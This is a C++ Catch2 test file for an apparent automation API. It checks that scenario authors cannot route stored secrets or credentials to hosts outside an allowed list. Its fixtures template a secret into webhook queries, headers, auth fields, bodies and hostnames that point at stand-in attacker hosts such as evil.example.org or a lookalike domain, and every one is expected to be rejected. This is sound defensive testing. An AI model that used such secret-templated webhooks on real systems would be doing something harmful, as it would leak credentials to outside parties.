// An author may use secrets and may not read them: each way to send one to another host is closed.
#include <catch2/catch.hpp>

#include <fmt/format.h>

#include "tests/api/front.h"

namespace onward {
namespace {
constexpr std::string_view kKey = "k3y-value", kToken = "t0ken-value";

/// Each way in which a node names the secret "key" or the credential "crm".
const std::vector<std::string> kNamings{
    R"(query: { k: "{{ secret.key }}" })",
    R"(query: "k={{ secret.key }}")",
    R"(headers: { X-Key: "{{ secret.key }}" })",
    R"(headers: { User-Agent: "onward {{ secret.key }}" })",
    R"(auth: { bearer: "{{ secret.key }}" })",
    R"(auth: { basic: { username: jane, password: "{{ secret.key }}" } })",
    R"(auth: { basic: { username: "{{ secret.key }}", password: "-" } })",
    R"(auth: { credential: crm })",
    R"(sign: key)",
    "method: GET\n    query: { k: \"{{ secret.key }}\" }",
};

std::string scenario_to(const std::string& url, const std::string& naming,
                        const std::string& id = "relay") {
  return fmt::format(
      "scenario: {}\nreentry: parallel\nnodes:\n"
      "  any:\n    kind: trigger\n    event: opened\n    next: tell\n"
      "  tell:\n    kind: send_webhook\n    url: \"{}\"\n    {}\n    next: end\n",
      id, url, naming);
}

class House : public Front {
 public:
  House() {
    REQUIRE(put("/v1/secrets/key",
                fmt::format(R"({{"value": "{}", "hosts": ["crm.example.com"]}})", kKey))
                .status == 201);
    REQUIRE(put("/v1/credentials/crm",
                fmt::format(R"({{"bearer": "{}", "hosts": ["crm.example.com"]}})", kToken))
                .status == 201);
  }
  Told author(const std::string& method, const std::string& path, const std::string& body = {},
              const std::string& type = "application/json") const {
    Told told = ask(
        {.method = method, .path = path, .body = body, .content_type = type, .token = "author"});
    for (const std::string_view value : {kKey, kToken})
      CHECK(told.body.find(value) == std::string::npos);
    return told;
  }
  Told apply(const std::string& text, const std::string& id = "relay") const {
    return author("PUT", "/v1/scenarios/" + id, text, "application/yaml");
  }
  void admin_sets(const std::string& hosts) const {
    REQUIRE(put("/v1/secrets/key", hosts).status == 200);
    REQUIRE(put("/v1/credentials/crm", hosts).status == 200);
  }
  /// No request to another host than crm.example.com has left, with or without a secret.
  void check_sent() const {
    for (const std::string& request : sent())
      CHECK(request.substr(0, request.find('\n')).starts_with("https://crm.example.com/"));
  }
};
}  // namespace

TEST_CASE("an author applies no file that sends a secret elsewhere, in whatever place it is",
          "[api][secrets]") {
  const House house;
  for (const std::string& naming : kNamings) {
    CAPTURE(naming);
    for (const char* url : {"https://evil.example.org/in", "https://crm.example.com.evil.org/",
                            "http://192.0.2.7:8080/crm.example.com", "https://example.com/"}) {
      const std::string text = scenario_to(url, naming);
      for (const Told& told : {house.apply(text), house.author("POST", "/v1/scenarios/relay/plan",
                                                               text, "application/yaml")}) {
        CHECK(told.body.find("secret_host_not_allowed") != std::string::npos);
        CHECK(told.body.find("crm.example.com") != std::string::npos);
      }
      CHECK(house.apply(text).status == 422);
    }
    CHECK(house.get("/v1/scenarios/relay").status == 404);
  }
  // In the URL itself.
  for (const char* path : {"{{ secret.key }}", "a?k={{ secret.key }}", "?{{ secret.key }}"})
    CHECK(house.apply(scenario_to(fmt::format("https://evil.example.org/{}", path), "method: POST"))
              .status == 422);
  // What is not a host, or is one only after rendering, is refused whatever the secret may do.
  house.admin_sets(R"({"any_host": true})");
  for (const char* url :
       {"https://{{ secret.key }}/", "https://{{ secret.key }}.evil.example.org/",
        "https://evil.example.org:{{ secret.key }}/", "{{ secret.key }}",
        "https://a@{{ secret.key }}", "https://{{ secret.key }}@evil.example.org/",
        "https://{{ contact.custom.host }}/"})
    CHECK(house.apply(scenario_to(url, kNamings[2])).status == 422);
  CHECK(house.sent().empty());
}

TEST_CASE("a secret in a body is refused everywhere that a body or a contact is made",
          "[api][secrets]") {
  const House house;
  house.admin_sets(R"({"any_host": true})");
  for (const char* body :
       {R"(payload: "{{ secret.key }}")", R"(payload: { a: "{{ secret.key }}" })",
        R"(payload: { a: [{ b: "x{{ secret.key }}" }] })", R"(payload: { a: "$.secret.key" })",
        R"(additional: { a: "{{ secret.key }}" })",
        "content_type: form\n    payload: { a: \"{{ secret.key }}\" }",
        "method: GET\n    additional: { a: \"{{ secret.key }}\" }"}) {
    CAPTURE(body);
    CHECK(house.apply(scenario_to("https://crm.example.com/in", body)).status == 422);
  }
  for (const char* set :
       {R"({ first_name: "{{ secret.key }}" })", R"({ custom.a: "{{ secret.key }}" })"}) {
    CAPTURE(set);
    CHECK(house
              .apply(fmt::format("scenario: relay\nnodes:\n"
                                 "  any: {{ kind: trigger, event: opened, next: note }}\n"
                                 "  note: {{ kind: update_contact, set: {}, next: end }}\n",
                                 set))
              .status == 422);
  }
}

TEST_CASE("hosts that an admin takes away later stop the test button, activation and attempts",
          "[api][secrets]") {
  for (const std::string& naming : kNamings) {
    CAPTURE(naming);
    House house;
    house.admin_sets(R"({"hosts": ["evil.example.org", "crm.example.com"]})");
    REQUIRE(house.apply(scenario_to("https://evil.example.org/in", naming)).status == 201);
    REQUIRE(house.author("POST", "/v1/scenarios/relay/activate").status == 200);
    REQUIRE(house.author("POST", "/v1/scenarios/relay/duplicate", R"({"id": "copy"})").status <
            300);
    house.admin_sets(R"({"hosts": ["crm.example.com"]})");

    for (const char* id : {"relay", "copy"}) {
      const Told test = house.author("POST", fmt::format("/v1/scenarios/{}/nodes/tell/test", id));
      CHECK(test.status == 200);
      CHECK(test.at("accepted") == Value{false});
      CHECK(test.at("code") == Value{"secret_host_not_allowed"});
      CHECK(test.at("explanation").text()->find("--host HOST") != std::string::npos);
    }
    const Told held = house.author("POST", "/v1/scenarios/copy/activate");
    CHECK(held.status == 409);
    CHECK(held.at("code") == Value{"secret_host_not_allowed"});
    // A copy is checked as a new file is.
    const Told copied = house.author("POST", "/v1/scenarios/copy/duplicate", R"({"id": "copy-2"})");
    CHECK(copied.status == 409);
    CHECK(copied.at("detail").text()->find("may not be sent to evil.example.org") !=
          std::string::npos);

    REQUIRE(house.post("/v1/events", R"({"type": "opened", "contact": {"id": "ada"}})").status ==
            202);
    // The test goes through the same thread after the attempt, so that one was made.
    CHECK(house.author("POST", "/v1/scenarios/relay/nodes/tell/test").at("code") ==
          Value{"secret_host_not_allowed"});
    const Told waiting = house.get("/v1/scenarios/relay/nodes/tell/deliveries");
    CHECK(waiting.at("deliveries.0.state") == Value{"pending"});
    CHECK(house.sent().empty());
    house.check_sent();
  }
}

TEST_CASE("an author sets no hosts, and the names of secrets are listed with theirs",
          "[api][secrets]") {
  const House house;
  for (const char* body : {R"({"any_host": true})", R"({"hosts": ["evil.example.org"]})",
                           R"({"value": "another", "any_host": true})"})
    CHECK(house.author("PUT", "/v1/secrets/key", body).status == 403);
  for (const char* body : {R"({"any_host": true})", R"({"bearer": "another", "any_host": true})"})
    CHECK(house.author("PUT", "/v1/credentials/crm", body).status == 403);
  REQUIRE(house.apply(scenario_to("https://crm.example.com:8443/in", kNamings[2])).status == 201);
  const Told secrets = house.author("GET", "/v1/secrets");
  CHECK(secrets.at("secrets.0.hosts.0") == Value{"crm.example.com"});
  CHECK(secrets.at("secrets.0.any_host") == Value{false});
  CHECK(secrets.at("secrets.0.hosts_set") == Value{true});
  CHECK(secrets.at("secrets.0.sent_to.0") == Value{"crm.example.com:8443"});
  CHECK(secrets.at("secrets.0.refused_hosts").list()->empty());
  house.admin_sets(R"({"any_host": true})");
  const Told credentials = house.author("GET", "/v1/credentials");
  CHECK(credentials.at("credentials.0.any_host") == Value{true});
  CHECK(credentials.at("credentials.0.hosts").list()->empty());
}

TEST_CASE("the hosts of a secret are checked where they are sent", "[api][secrets]") {
  const House house;
  struct Row {
    const char* body;
    int status;
    const char* code;
  };
  for (const Row& row : {
           Row{R"({"value": "s3cr3t-one"})", 400, "no_hosts"},
           Row{R"({"value": "s3cr3t-one", "any_host": false})", 400, "no_hosts"},
           Row{R"({"value": "s3cr3t-one", "hosts": null})", 400, "no_hosts"},
           Row{R"({"value": "s3cr3t-one", "hosts": []})", 400, "bad_host"},
           Row{R"({"value": "s3cr3t-one", "hosts": ["*"]})", 400, "bad_host"},
           Row{R"({"value": "s3cr3t-one", "hosts": ["https://crm.example.com"]})", 400, "bad_host"},
           Row{R"({"value": "s3cr3t-one", "hosts": "crm.example.com"})", 400, "wrong_type"},
           Row{R"({"value": "s3cr3t-one", "hosts": [5]})", 400, "wrong_type"},
           Row{R"({"value": "s3cr3t-one", "any_host": "yes"})", 400, "wrong_type"},
           Row{R"({"value": "s3cr3t-one", "any_host": true, "hosts": ["a.example.com"]})", 400,
               "conflict"},
           Row{R"({"value": "s3cr3t-one", "any_host": true})", 201, ""},
       }) {
    CAPTURE(row.body);
    const Told told = house.put("/v1/secrets/new", row.body);
    CHECK(told.status == row.status);
    if (row.status >= 400) CHECK(told.at("code") == Value{row.code});
    CHECK(told.body.find("s3cr3t") == std::string::npos);
  }
  CHECK(house.put("/v1/credentials/new", R"({"bearer": "s3cr3t-one"})").at("code") ==
        Value{"no_hosts"});
  CHECK(house.put("/v1/credentials/new", R"({"any_host": true})").at("code") == Value{"no_value"});
  CHECK(house.put("/v1/credentials/crm", R"({"any_host": false})").at("code") ==
        Value{"wrong_type"});
  CHECK(house.put("/v1/credentials/crm", R"({"bearer": "a", "basic": {}, "any_host": true})")
            .status == 400);
  // Only what is sent changes.
  const Told kept = house.put("/v1/credentials/crm", R"({"hosts": ["*.example.com"]})");
  CHECK(kept.status == 200);
  CHECK(kept.at("scheme") == Value{"bearer"});
  CHECK(kept.at("hosts.0") == Value{"*.example.com"});
  const Told rotated = house.put("/v1/secrets/key", R"({"value": "another-one", "rotate": true})");
  CHECK(rotated.at("hosts.0") == Value{"crm.example.com"});
}
}  // namespace onward
